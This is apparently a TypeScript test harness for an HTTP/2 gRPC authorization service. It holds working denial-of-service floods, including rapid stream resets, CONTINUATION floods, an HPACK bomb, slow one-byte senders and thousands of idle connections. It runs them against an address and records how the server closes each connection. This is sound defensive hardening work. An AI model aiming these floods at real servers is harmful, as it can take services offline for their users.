/**
 * Floods of known kinds, from a separate process: `node floods.ts ADDRESS FLOOD`. FLOOD is a name, or JSON of
 * `genome.ts`. It attacks until its input ends, and then prints how its connections have ended.
 */
import type { Socket } from 'node:net'
import { CheckRequest } from '../../../proto/gen/portcullis/v1/authorization.ts'
import { reportAndEnd } from '../attack/attack-report.ts'
import type { Flood } from '../attack/flood.ts'
import { floodOf } from '../attack/genome.ts'
import {
  callOf,
  END_HEADERS,
  END_STREAM,
  FRAME,
  field,
  frame,
  messageFrame,
  PREFACE,
  settingsOf,
  uint32,
} from '../http2/frames.ts'
import { openRaw, type Seen } from './raw-connection.ts'

const SERVICE = '/portcullis.v1.AuthorizationService'
const CHECK = callOf(`${SERVICE}/Check`)
const STREAM = callOf(`${SERVICE}/CheckStream`)
const MATRIX = callOf(`${SERVICE}/GetMatrix`)

/** About as many bytes as are read at a time. */
const BATCH_BYTES = 64 * 1024

const none = Buffer.alloc(0)
const headers = (stream: number, payload: Buffer, flags = END_HEADERS) =>
  frame(FRAME.headers, { flags, stream, payload })
const empty = messageFrame(none)

/** A field that enters the dynamic table and fills it, and then nothing but its number (RFC 7541, §6.1). */
const BOMB_VALUE_BYTES = 3900
const bombField = Buffer.concat([
  Buffer.of(0x40, 6),
  Buffer.from('x-bomb'),
  // 127 and the rest, in two bytes of seven bits.
  Buffer.of(0x7f, ((BOMB_VALUE_BYTES - 127) & 0x7f) | 0x80, (BOMB_VALUE_BYTES - 127) >> 7),
  Buffer.alloc(BOMB_VALUE_BYTES, 'b'),
])
const bomb = Buffer.concat([CHECK, Buffer.alloc(16_000 - CHECK.length, 0x80 | 62)])

/** A name of 4,000 bytes that enters the table, and uses of it with another value. */
const longName = Buffer.concat([
  Buffer.of(0x40, 0x7f, 0xa1, 0x1e),
  Buffer.alloc(4_000, 'x'),
  Buffer.of(1, 0x79),
])
const namedAgain = Buffer.concat([CHECK, ...Array<Buffer>(1_000).fill(Buffer.of(0x0f, 47, 1, 0x7a))])

const smallFields = Buffer.concat([CHECK, ...Array<Buffer>(120).fill(field('a', 'b'))])
const fewFields = Buffer.concat(Array<Buffer>(30).fill(field('a', 'b')))

/** A string in Huffman's code whose padding is longer than seven bits (RFC 7541, §5.2). */
const padded = Buffer.concat([
  CHECK,
  Buffer.of(0x00, 0x01),
  Buffer.from('x'),
  Buffer.of(0x84, 0xff, 0xff, 0xff, 0xff),
])

/** The prefix of a message of nearly 4 MiB. */
const LARGE_PREFIX = Buffer.of(0, 0, 0x3f, 0, 0)

const manyFields = Buffer.concat(Array(128).fill(field('x-flood', 'x'.repeat(100))))

/** An ordinary question. */
const claims = messageFrame(
  CheckRequest.encode({
    api: 'balance',
    subject: { $case: 'token', value: { kind: 'static_token', scope: { account: '123456', project: '' } } },
    target: undefined,
    clientAddress: '',
    request: undefined,
  }).finish(),
)

export const FLOODS: Readonly<Record<string, Flood>> = {
  'calls that are reset at once': {
    bound: 'resets',
    opening: none,
    frames: (stream) =>
      Buffer.concat([headers(stream, CHECK), frame(FRAME.rstStream, { stream, payload: uint32(8) })]),
  },
  'header fields without end': {
    bound: 'header_block',
    opening: headers(1, CHECK, 0),
    frames: () => frame(FRAME.continuation, { stream: 1, payload: manyFields }),
  },
  'empty CONTINUATION': {
    bound: 'header_block',
    opening: headers(1, CHECK, 0),
    frames: () => frame(FRAME.continuation, { stream: 1 }),
  },
  pings: { bound: 'pings', opening: none, frames: () => frame(FRAME.ping, { payload: Buffer.alloc(8) }) },
  'pings whose answers are not read': {
    bound: 'pings',
    opening: none,
    frames: () => frame(FRAME.ping, { payload: Buffer.alloc(8) }),
    reads: false,
  },
  settings: { bound: 'settings', opening: none, frames: () => frame(FRAME.settings) },
  'empty DATA': {
    bound: 'idle_frames',
    opening: headers(1, STREAM),
    frames: () => frame(FRAME.data, { stream: 1 }),
  },
  'window updates of one byte': {
    bound: 'idle_frames',
    opening: headers(1, STREAM),
    frames: () => frame(FRAME.windowUpdate, { stream: 1, payload: uint32(1) }),
  },
  'a window of nothing, and calls with long answers': {
    bound: 'streams',
    opening: frame(FRAME.settings, { payload: settingsOf({ 4: 0 }) }),
    frames: (stream) =>
      Buffer.concat([
        headers(stream, MATRIX),
        frame(FRAME.data, { flags: END_STREAM, stream, payload: empty }),
      ]),
  },
  'answers that are not read': {
    bound: 'streams',
    opening: frame(FRAME.settings, { payload: settingsOf({ 4: 2 ** 31 - 1 }) }),
    frames: (stream) =>
      Buffer.concat([
        headers(stream, MATRIX),
        frame(FRAME.data, { flags: END_STREAM, stream, payload: empty }),
      ]),
    reads: false,
  },
  'a table of header fields that is asked for again and again (HPACK bomb)': {
    bound: 'header_list',
    opening: headers(1, Buffer.concat([CHECK, bombField])),
    frames: (stream) => headers(stream + 2, bomb),
  },
  'a long name of a header field that is used again and again': {
    bound: 'header_list',
    opening: headers(1, Buffer.concat([CHECK, longName])),
    frames: (stream) => headers(stream + 2, namedAgain),
  },
  'calls that stay open, with many small header fields': {
    bound: 'buffered_bytes',
    opening: none,
    frames: (stream) => headers(stream, smallFields),
    connections: 150,
  },
  'header fields in many parts': {
    opening: none,
    frames: (stream) =>
      Buffer.concat([
        headers(stream, CHECK, 0),
        ...Array<Buffer>(30).fill(frame(FRAME.continuation, { stream, payload: fewFields })),
        frame(FRAME.continuation, { stream, flags: END_HEADERS }),
      ]),
    bound: 'header_list',
  },
  'strings with too much padding (Huffman)': {
    bound: 'protocol_error',
    opening: none,
    frames: (stream) => headers(stream, padded),
  },
  'large messages that never end': {
    bound: 'streams',
    opening: none,
    frames: (stream) =>
      Buffer.concat([
        headers(stream, CHECK),
        frame(FRAME.data, {
          stream,
          payload: Buffer.concat([LARGE_PREFIX, Buffer.alloc(16_000)]),
        }),
      ]),
  },
  'senders of a byte at a time': {
    bound: 'request_time',
    opening: Buffer.concat([headers(1, CHECK), frame(FRAME.data, { stream: 1, payload: LARGE_PREFIX })]),
    frames: () => frame(FRAME.data, { stream: 1, payload: Buffer.alloc(1) }),
    everyMs: 50,
    connections: 200,
  },
  'streams that must be reset, because their windows are wider by nothing': {
    bound: 'resets',
    opening: none,
    frames: (stream) =>
      Buffer.concat([headers(stream, CHECK), frame(FRAME.windowUpdate, { stream, payload: uint32(0) })]),
  },
  'trailers that end nothing': {
    bound: 'resets',
    opening: none,
    frames: (stream) => Buffer.concat([headers(stream, CHECK), headers(stream, none)]),
  },
  'DATA of a stream that was reset': {
    bound: 'idle_frames',
    opening: Buffer.concat([headers(1, CHECK), headers(1, none)]),
    frames: () => frame(FRAME.data, { stream: 1, payload: Buffer.alloc(1) }),
  },
  'checks as fast as they are answered': {
    // The answers have all the room that there can be.
    opening: frame(FRAME.windowUpdate, { payload: uint32(2 ** 31 - 1 - 65_535) }),
    frames: (stream) =>
      Buffer.concat([
        headers(stream, CHECK),
        frame(FRAME.data, { flags: END_STREAM, stream, payload: claims }),
      ]),
    connections: 4,
  },
  'idle connections': { opening: none, connections: 2000 },
}

/** How the connections of a flood have ended. */
export interface FloodReport {
  readonly connections: number
  /** By the code and the text of GOAWAY, or how else. */
  readonly endings: Readonly<Record<string, number>>
}

async function run(address: string, flood: Flood): Promise<void> {
  const report = { connections: 0, endings: {} as Record<string, number> }
  const open = new Set<Socket>()
  let over = false
  const end = (ending: string) => {
    report.endings[ending] = (report.endings[ending] ?? 0) + 1
  }
  const attacker = async () => {
    while (!over) {
      report.connections++
      const { socket, seen, closed } = openRaw(address)
      open.add(socket)
      if (flood.reads === false) socket.pause()
      await Promise.race([closed, send(socket, flood, () => over)])
      if (!socket.destroyed) await Promise.race([closed, overIn(() => over)])
      // A socket that is not read does not say how it ended.
      socket.resume()
      if (!over) await closed
      open.delete(socket)
      end(over && !socket.destroyed ? 'open' : endingOf(seen))
      socket.destroy()
    }
  }
  const attacking = Promise.all(Array.from({ length: flood.connections ?? 2 }, attacker))
  process.stdin.resume().once('end', () => {
    over = true
  })
  await attacking
  reportAndEnd(report)
}

function endingOf({ goAway }: Seen): string {
  return goAway === undefined ? 'closed' : `GOAWAY ${goAway.code} ${goAway.debug}`.trim()
}

async function send(socket: Socket, { opening, frames, everyMs }: Flood, over: () => boolean): Promise<void> {
  socket.write(Buffer.concat([PREFACE, opening]))
  if (frames === undefined) return
  for (let stream = 1; !over() && !socket.destroyed; ) {
    const batch: Buffer[] = []
    for (
      let bytes = 0;
      bytes < (everyMs === undefined ? BATCH_BYTES : 1);
      bytes += batch.at(-1)?.length ?? 0
    ) {
      batch.push(frames(stream))
      stream += 2
    }
    const taken = socket.write(Buffer.concat(batch))
    if (everyMs !== undefined) await new Promise((resolve) => setTimeout(resolve, everyMs))
    else if (!taken) await drained(socket, over)
    else await new Promise((resolve) => setImmediate(resolve))
  }
}

/** Resolves when more can be sent, or never will be. */
async function drained(socket: Socket, over: () => boolean): Promise<void> {
  while (!over() && !socket.destroyed && socket.writableNeedDrain)
    await new Promise((resolve) => setTimeout(resolve, 1))
}

/** Resolves soon after it has ended. */
async function overIn(over: () => boolean): Promise<void> {
  while (!over()) await new Promise((resolve) => setTimeout(resolve, 20))
}

if (import.meta.main) {
  const [address = '', name = ''] = process.argv.slice(2)
  // One that a generator has made is JSON.
  const flood = name.startsWith('{') ? floodOf(JSON.parse(name)) : FLOODS[name]
  if (flood === undefined) throw new Error(`no flood ${name}`)
  await run(address, flood)
}
